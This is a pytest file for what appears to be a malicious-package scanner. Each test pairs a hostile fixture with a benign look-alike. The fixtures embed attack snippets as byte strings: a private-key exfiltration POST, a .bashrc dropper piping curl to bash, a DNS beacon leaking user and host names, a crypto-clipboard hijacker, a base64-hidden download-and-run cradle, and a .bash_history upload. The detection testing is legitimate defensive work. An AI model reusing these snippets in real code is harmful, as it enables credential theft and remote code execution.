"""Hard findings: each fires on its malicious example and stays quiet on the benign look-alike."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from evasions import (
    BENIGN_SETUP,
    PKG_INFO,
    compiled,
    files_tar,
    in_tree_backend,
    payload,
    polyglot,
    tar_link_escape,
    zip_with_modes,
)
from vetpy.acquire.archive import open_archive
from vetpy.acquire.interface import Finding, Limits
from vetpy.features.interface import PackageFeatures
from vetpy.policy import hard_findings

REG = 0o100644
PURE = b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"


def kinds(data: bytes, filename: str) -> set[str]:
    return {f.kind for f in hard_findings(open_archive(data, target=filename, filename=filename))}


def demo_features(files: dict[str, bytes]) -> PackageFeatures:
    """The features of a demo sdist holding ``files``, read through the real reader."""
    from vetpy.features.extract import extract_features

    return extract_features(open_archive(sdist(files), target="d", filename="demo-1.0.tar.gz"))


def the_finding(files: dict[str, bytes], kind: str, line: int) -> Finding:
    """The one hard finding the features of a demo package show: its kind, file and line, the token the lab
    reads from the cache, and the reason every interface reports."""
    from vetpy.policy import feature_findings, policy_reasons, token_findings

    features = demo_features(files)
    [finding] = feature_findings(features)
    [path] = files
    assert token_findings(features.code_text) == (kind,)  # what the lab reads from the cache
    assert (finding.kind, finding.file, finding.line) == (kind, f"demo-1.0/{path}", line)
    [reason] = policy_reasons((finding,))
    assert (reason.feature, reason.line) == (f"policy.{kind}", line)
    return finding


def no_finding(files: dict[str, bytes]) -> bool:
    """Whether the features of a demo package show no hard finding, by evidence or by cached token."""
    from vetpy.policy import feature_findings, token_findings

    features = demo_features(files)
    return feature_findings(features) == () and token_findings(features.code_text) == ()


def wheel(files: dict[str, bytes], wheel_file: bytes = PURE) -> bytes:
    files = files | {"demo-1.0.dist-info/METADATA": PKG_INFO, "demo-1.0.dist-info/WHEEL": wheel_file}
    return zip_with_modes({p: (d, REG) for p, d in files.items()})


def sdist(files: dict[str, bytes]) -> bytes:
    return files_tar({"demo-1.0/PKG-INFO": PKG_INFO} | {f"demo-1.0/{p}": d for p, d in files.items()})


def test_polyglot_and_link_escape(tmp_path: Path) -> None:
    assert kinds(polyglot(tmp_path / "c"), "evil-1.0.tar.gz") == {"polyglot"}
    assert kinds(tar_link_escape(tmp_path / "c"), "evil-1.0.tar.gz") == {"link_escape"}
    plain = sdist({"setup.py": BENIGN_SETUP})
    assert kinds(plain, "demo-1.0.tar.gz") == set()


def test_sourceless_bytecode_only_where_it_has_no_place() -> None:
    pyc = compiled(b"import os\n")
    assert kinds(wheel({"demo/mod.pyc": pyc}), "demo-1.0-py3-none-any.whl") == {"sourceless_bytecode"}
    assert kinds(sdist({"demo/__init__.py": b"", "demo/mod.pyc": pyc}), "demo-1.0.tar.gz") == {
        "sourceless_bytecode"
    }
    # outside any package, or beside other byte-compiled sources (a developer tree's leftovers)
    assert kinds(sdist({"docs/mod.pyc": pyc}), "demo-1.0.tar.gz") == set()
    stale = {"demo/__init__.py": b"", "demo/__init__.pyc": pyc, "demo/old.pyc": pyc}
    assert kinds(sdist(stale), "demo-1.0.tar.gz") == set()
    # with its source, in __pycache__ (never imported without the .py), or in a version-specific wheel
    assert kinds(wheel({"demo/mod.py": b"", "demo/mod.pyc": pyc}), "demo-1.0-py3-none-any.whl") == set()
    assert kinds(wheel({"demo/__pycache__/mod.cpython-311.pyc": pyc}), "demo-1.0-py3-none-any.whl") == set()
    cp = b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: cp312-none-any\n"
    assert kinds(wheel({"demo/mod.pyc": pyc}, cp), "demo-1.0-cp312-none-any.whl") == set()


@pytest.mark.parametrize("codec", ["utf-7", "unicode_escape", "raw_unicode_escape"])
def test_exotic_source_encoding(codec: str) -> None:
    assert kinds(sdist({"setup.py": f"# coding: {codec}\nx = 1\n".encode()}), "d-1.0.tar.gz") == {
        "source_encoding"
    }


@pytest.mark.parametrize("codec", ["utf-8", "latin-1", "cp1252", "euc-jp"])
def test_ordinary_source_encoding(codec: str) -> None:
    assert kinds(sdist({"setup.py": f"# -*- coding: {codec} -*-\nx = 1\n".encode()}), "d-1.0.tar.gz") == set()


def test_executed_data_file(tmp_path: Path) -> None:
    run = b"import os\nexec(open(os.path.join('build', 'cfg.txt')).read())\n" + BENIGN_SETUP
    evil = sdist({"setup.py": run, "build/cfg.txt": payload(tmp_path / "c")})
    assert kinds(evil, "d-1.0.tar.gz") == {"executed_data"}
    harmless = sdist({"setup.py": run, "build/cfg.txt": b"VERSION = '1.0'\n"})
    assert kinds(harmless, "d-1.0.tar.gz") == set()
    # a data file named near json.loads / re.compile is not run
    reads = b"import json, re\ncfg = json.loads(open('cfg.txt').read())\nR = re.compile('cfg.txt')\n"
    assert (
        kinds(sdist({"setup.py": reads + BENIGN_SETUP, "cfg.txt": payload(tmp_path / "c")}), "d.tar.gz")
        == set()
    )


def test_in_tree_backend(tmp_path: Path) -> None:
    assert kinds(in_tree_backend(tmp_path / "c"), "evil-1.0.tar.gz") == {"build_backend"}
    quiet = b"from setuptools.build_meta import *\nimport subprocess\nsubprocess.run(['cmake', '.'])\n"
    pyproject = b'[build-system]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n'
    assert kinds(sdist({"pyproject.toml": pyproject, "_build/backend.py": quiet}), "d-1.0.tar.gz") == set()
    # fetches its own sources and builds them: a request and a process in one file, nothing fetched is run
    builds = (
        b"import subprocess, urllib.request\ndef build_wheel(d, c=None, m=None):\n"
        b"    urllib.request.urlretrieve(URL, 'src.tar.gz')\n    subprocess.run(['sh', 'bootstrap'])\n"
    )
    assert kinds(sdist({"pyproject.toml": pyproject, "_build/backend.py": builds}), "d-1.0.tar.gz") == set()
    # runs what it fetched
    runs = (
        b"import urllib.request\ndef build_wheel(d, c=None, m=None):\n"
        b"    exec(urllib.request.urlopen(URL).read())\n"
    )
    assert kinds(sdist({"pyproject.toml": pyproject, "_build/backend.py": runs}), "d-1.0.tar.gz") == {
        "build_backend"
    }


def test_notebook_cells_are_analysed_as_functions(tmp_path: Path) -> None:
    cells = [{"cell_type": "code", "source": ["%matplotlib inline\n", "import os\n", "os.system('ls')\n"]}]
    doc = json.dumps({"cells": cells}).encode()
    archive = open_archive(sdist({"nb.ipynb": doc}), target="d", filename="d-1.0.tar.gz")
    [view] = archive.views
    assert view.role == "notebook" and b"async def _notebook_cell_0():" in view.data
    assert b"os.system('ls')" in view.data and b"%matplotlib" not in view.data


def test_huge_pth_is_an_incomplete_scan() -> None:
    pth = b"#" * 1_100_000 + b"\nimport os; os.system('id')\n"
    data = sdist({"setup.py": BENIGN_SETUP, "x.pth": pth})
    archive = open_archive(data, target="d", filename="d-1.0.tar.gz", limits=Limits(max_ratio=1e6))
    assert archive.limit_hit is not None and "x.pth" in archive.limit_hit


def test_custody_exfil_from_the_features_evidence() -> None:
    helper = (
        b"import requests\n\n\ndef get_balance(address, private_key):\n"
        b"    requests.post('http://203.0.113.5:8080/b', json={'a': address, 'k': private_key})\n"
        b"CHAIN = 'solana-mainnet'\n"
    )
    finding = the_finding({"demo/client.py": helper}, "custody_exfil", 5)
    assert "(private_key)" in finding.message and "(203.0.113.5)" in finding.message
    # the same helper sending to the address its caller gives: no finding
    honest = helper.replace(b"'http://203.0.113.5:8080/b'", b"address")
    assert no_finding({"demo/client.py": honest})


def test_persistence_payload_from_the_features_evidence() -> None:
    dropper = (
        b"import os\n\n\ndef init_shell():\n"
        b"    rc = os.path.join(os.path.expanduser('~'), '.bashrc')\n"
        b"    with open(rc, 'a') as fh:\n"
        b"        fh.write('\\ncurl -s http://203.0.113.9/i.sh | bash\\n')\n"
    )
    finding = the_finding({"demo/shell.py": dropper}, "persistence_payload", 7)
    assert "'~/.bashrc'" in finding.message
    # the same installer adding its own command to the shell's start-up file: no finding
    honest = dropper.replace(b"curl -s http://203.0.113.9/i.sh | bash", b'eval \\"$(demo init -)\\"')
    assert no_finding({"demo/shell.py": honest})


def test_dns_beacon_from_the_features_evidence() -> None:
    probe = (
        b"import socket, getpass\n\n\ndef ping():\n"
        b"    host = getpass.getuser() + '.' + socket.gethostname() + '.abc123.oast.fun'\n"
        b"    socket.gethostbyname(host)\n"
    )
    finding = the_finding({"demo/util.py": probe}, "dns_beacon", 6)
    assert "getpass.getuser, line 5" in finding.message and "abc123.oast.fun (oast)" in finding.message
    # the same name under a placeholder domain: a flow for the model, no finding
    honest = probe.replace(b".abc123.oast.fun", b".corp.example.net")
    assert no_finding({"demo/util.py": honest})


def test_clipboard_hijack_from_the_features_evidence() -> None:
    clipper = (
        b"import re, pyperclip\n\n\ndef watch():\n"
        b"    text = pyperclip.paste()\n"
        b"    if re.match(r'^0x[a-fA-F0-9]{40}$', text):\n"
        b"        pyperclip.copy('0x52908400098527886E0F7030069857D2E4169EE7')\n"
    )
    the_finding({"demo/watch.py": clipper}, "clipboard_hijack", 7)
    # the copy of what was pasted, upper-cased: a clipboard manager
    honest = clipper.replace(b"'0x52908400098527886E0F7030069857D2E4169EE7'", b"text.upper()")
    honest = honest.replace(b"r'^0x[a-fA-F0-9]{40}$'", b"r'^[a-z]+$'")
    assert no_finding({"demo/watch.py": honest})


def test_hidden_payload_from_the_features_evidence() -> None:
    import base64

    cradle = base64.b64encode(b"curl -s http://203.0.113.9/x.sh | sh")
    plugin = b"import os, base64\n\n\ndef update():\n    os.system(base64.b64decode('" + cradle + b"'))\n"
    finding = the_finding({"demo/plugin.py": plugin}, "hidden_payload", 5)
    assert "download-and-run" in finding.message
    # the same command written as it is: the model judges it, no finding
    plain = b"import os\n\n\ndef update():\n    os.system('curl -s http://203.0.113.9/x.sh | sh')\n"
    assert no_finding({"demo/plugin.py": plain})


def test_the_co_occurrence_message_is_the_walks() -> None:
    """policy.CO_OCCURRENCE names the walk's hit exactly (a changed message would make it count again)."""
    from vetpy.features.source.scan import scan_source
    from vetpy.policy import CO_OCCURRENCE

    code = "import subprocess, urllib.request\nurllib.request.urlopen(U)\nsubprocess.run(['x'])\n"
    hits = scan_source("b.py", code, data=code.encode()).examples["code.download_exec"]
    assert [h.message for h in hits] == [CO_OCCURRENCE]


def test_credential_upload_from_the_features_evidence() -> None:
    grab = (
        b"import os, shutil\n\n\ndef grab(user):\n    hist = '/home/' + user + '/.bash_history'\n"
        b"    shutil.copyfile(hist, '/tmp/x/h')\n"
        b"    os.system('curl -k -F \"file=@/tmp/x.zip\" https://198.51.100.7/upload')\n"
    )
    finding = the_finding({"demo/sync.py": grab}, "credential_upload", 7)
    assert ".bash_history" in finding.message and "line 5" in finding.message
    # the same upload to the address its caller gives: no finding
    honest = grab.replace(b"def grab(user):", b"def grab(user, url):").replace(
        b"https://198.51.100.7/upload')", b"' + url)"
    )
    assert no_finding({"demo/sync.py": honest})
